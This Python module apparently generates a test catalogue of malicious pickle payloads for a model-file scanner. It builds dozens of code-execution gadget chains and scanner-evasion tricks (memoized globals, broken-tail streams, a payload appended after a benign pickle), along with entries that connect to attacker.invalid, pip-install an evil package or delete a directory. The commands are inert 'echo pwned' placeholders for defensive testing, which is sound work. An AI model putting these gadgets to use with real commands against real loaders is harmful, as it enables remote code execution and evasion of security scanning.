"""Hostile pickle payloads, one builder per technique. Every command is the inert ``echo pwned``.

Each builder takes a protocol (0-5) and returns a complete pickle stream whose loading would
run the technique's gadget. They are written with :class:`PickleAsm` so that every opcode is
explicit; nothing here is ever loaded.
"""

from __future__ import annotations

from collections.abc import Callable

from modelcustoms.samples.pickle_asm import PickleAsm, call_pickle

CMD = "echo pwned"
PY_SRC = "__import__('os').system('echo pwned')"
Builder = Callable[[int], bytes]


def _call(module: str, name: str, *args: str | int | None) -> Builder:
    return lambda p: call_pickle(module, name, *args, protocol=p)


def _stack_global_memo(p: int) -> bytes:
    # Strings are memoized first and fetched back for STACK_GLOBAL, so a scanner that only
    # looks at the two opcodes before STACK_GLOBAL sees BINGETs, not names.
    a = PickleAsm(max(p, 4), framed=False)
    a.str_("posix").put(5).pop().str_("system").put(9).pop()
    a.str_("decoy").get(5).get(9).stack_global().str_(CMD).tuple_(1).reduce()
    return a.pop().stop().getvalue()


def _inst(p: int) -> bytes:
    a = PickleAsm(p, framed=False)
    return a.mark().value(CMD).inst("os", "system").stop().getvalue()


def _obj(p: int) -> bytes:
    a = PickleAsm(max(p, 1), framed=False)
    return a.mark().global_("os", "system").value(CMD).obj().stop().getvalue()


def _newobj(p: int) -> bytes:
    a = PickleAsm(max(p, 2))
    a.global_ref("subprocess", "Popen").value(((["sh", "-c", CMD]),)).newobj()
    return a.stop().getvalue()


def _getattr(p: int) -> bytes:
    a = PickleAsm(p)
    a.global_ref("builtins", "getattr").mark()
    a.call("builtins", "__import__", "os").value("system").tuple_from_mark().reduce()
    a.value((CMD,)).reduce()
    return a.stop().getvalue()


def _importlib(p: int) -> bytes:
    a = PickleAsm(p)
    a.global_ref("builtins", "getattr").mark()
    a.call("importlib", "import_module", "subprocess").value("check_output")
    a.tuple_from_mark().reduce().value(((["sh", "-c", CMD]),)).reduce()
    return a.stop().getvalue()


def _attrgetter(p: int) -> bytes:
    a = PickleAsm(p)
    a.call("operator", "attrgetter", "system").mark()
    a.call("importlib", "import_module", "os").tuple_from_mark().reduce()
    a.value((CMD,)).reduce()
    return a.stop().getvalue()


def _methodcaller(p: int) -> bytes:
    a = PickleAsm(p)
    a.call("operator", "methodcaller", "system", CMD).mark()
    a.call("importlib", "import_module", "os").tuple_from_mark().reduce()
    return a.stop().getvalue()


def _partial(p: int) -> bytes:
    a = PickleAsm(p)
    a.global_ref("functools", "partial").mark().global_ref("os", "system").value(
        CMD
    ).tuple_from_mark()
    a.reduce().empty_tuple().reduce()
    return a.stop().getvalue()


def _nested_loads(p: int) -> bytes:
    inner = call_pickle("os", "system", CMD, protocol=2)
    a = PickleAsm(max(p, 3))
    a.global_ref("pickle", "loads").bytes_(inner).tuple_(1).reduce()
    return a.stop().getvalue()


def _compile_exec(p: int) -> bytes:
    a = PickleAsm(p)
    a.global_ref("builtins", "exec").mark()
    a.call("builtins", "compile", PY_SRC, "<zoo>", "exec").tuple_from_mark().reduce()
    return a.stop().getvalue()


def _asyncio(p: int) -> bytes:
    # The unbound transport method spawns a process from its arguments.
    a = PickleAsm(max(p, 4))
    a.global_ref("asyncio.unix_events", "_UnixSubprocessTransport._start")
    a.mark().none().value(CMD).value(True).none().none().none().int_(0).tuple_from_mark().reduce()
    return a.stop().getvalue()


def _code_interact(p: int) -> bytes:
    a = PickleAsm(p)
    a.global_ref("builtins", "getattr").mark()
    a.global_ref("code", "InteractiveInterpreter").empty_tuple().reduce().value("runsource")
    a.tuple_from_mark().reduce().value((PY_SRC,)).reduce()
    return a.stop().getvalue()


def _trace(p: int) -> bytes:
    a = PickleAsm(p)
    a.global_ref("builtins", "getattr").mark()
    a.global_ref("trace", "Trace").empty_tuple().reduce().value("runctx")
    a.tuple_from_mark().reduce().mark().value(
        PY_SRC
    ).empty_dict().empty_dict().tuple_from_mark().reduce()
    return a.stop().getvalue()


def _open_write(p: int) -> bytes:
    a = PickleAsm(p)
    a.global_ref("builtins", "getattr").mark()
    a.call("builtins", "open", "/tmp/zoo-pwned.txt", "w").value("write").tuple_from_mark().reduce()
    a.value(("pwned",)).reduce()
    return a.stop().getvalue()


def _ext(p: int) -> bytes:
    a = PickleAsm(max(p, 2))
    a.ext(0xC0DE).value((CMD,)).reduce()
    return a.stop().getvalue()


def _broken_tail(p: int) -> bytes:
    # nullifAI: the payload runs, then the stream breaks; loaders that stop at the error have
    # already executed it, scanners that reject the whole stream report nothing.
    body = call_pickle("os", "system", CMD, protocol=p)[:-1]
    return body + b"\x00\xffgarbage-after-payload"


def _second_pickle(p: int) -> bytes:
    benign = PickleAsm(p).value({"epoch": 3, "loss": 0.25}).stop().getvalue()
    return benign + call_pickle("os", "system", CMD, protocol=p)


PICKLE_TECHNIQUES: dict[str, Builder] = {
    "pickle.os-system": _call("os", "system", CMD),
    "pickle.posix-system": _call("posix", "system", CMD),
    "pickle.nt-system": _call("nt", "system", CMD),
    "pickle.subprocess-popen": _call("subprocess", "Popen", CMD),
    "pickle.subprocess-check-output": _call("subprocess", "check_output", CMD),
    "pickle.builtins-exec": _call("builtins", "exec", PY_SRC),
    "pickle.builtins-eval": _call("builtins", "eval", PY_SRC),
    "pickle.compile-exec": _compile_exec,
    "pickle.stack-global-memo": _stack_global_memo,
    "pickle.inst": _inst,
    "pickle.obj": _obj,
    "pickle.newobj": _newobj,
    "pickle.getattr-import": _getattr,
    "pickle.importlib": _importlib,
    "pickle.operator-attrgetter": _attrgetter,
    "pickle.operator-methodcaller": _methodcaller,
    "pickle.functools-partial": _partial,
    "pickle.nested-loads": _nested_loads,
    "pickle.runpy": _call("runpy", "_run_code", PY_SRC, None),
    "pickle.code-interact": _code_interact,
    "pickle.timeit": _call("timeit", "timeit", PY_SRC, "pass", None, 1),
    "pickle.cprofile-run": _call("cProfile", "run", PY_SRC),
    "pickle.trace-runctx": _trace,
    "pickle.pip-main": _call("pip", "main", "install", "zoo-evil-package"),
    "pickle.pydoc-pipepager": _call("pydoc", "pipepager", "text", CMD),
    "pickle.asyncio-subprocess": _asyncio,
    "pickle.numpy-runstring": _call("numpy.testing._private.utils", "runstring", PY_SRC, None),
    "pickle.torch-hub-load": _call("torch.hub", "load", "attacker/zoo-repo", "model"),
    "pickle.torch-load-nested": _call("torch", "load", "/tmp/zoo-other.pt"),
    "pickle.webbrowser-open": _call("webbrowser", "open", "http://attacker.invalid/x"),
    "pickle.socket": _call("socket", "create_connection", "attacker.invalid"),
    "pickle.shutil-rmtree": _call("shutil", "rmtree", "/tmp/zoo-victim"),
    "pickle.open-write": _open_write,
    "pickle.broken-tail": _broken_tail,
    "pickle.second-pickle": _second_pickle,
    "pickle.ext-code": _ext,
}

REFERENCES: dict[str, str] = {
    "pickle.pip-main": "https://nvd.nist.gov/vuln/detail/CVE-2025-1716",
    "pickle.broken-tail": "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",
    "pickle.asyncio-subprocess": "https://github.com/mmaitre314/picklescan/security/advisories",
    "pickle.numpy-runstring": "https://github.com/mmaitre314/picklescan/security/advisories",
    "pickle.pydoc-pipepager": "https://github.com/mmaitre314/picklescan/security/advisories",
    "pickle.os-system": "https://docs.python.org/3/library/pickle.html#restricting-globals",
}
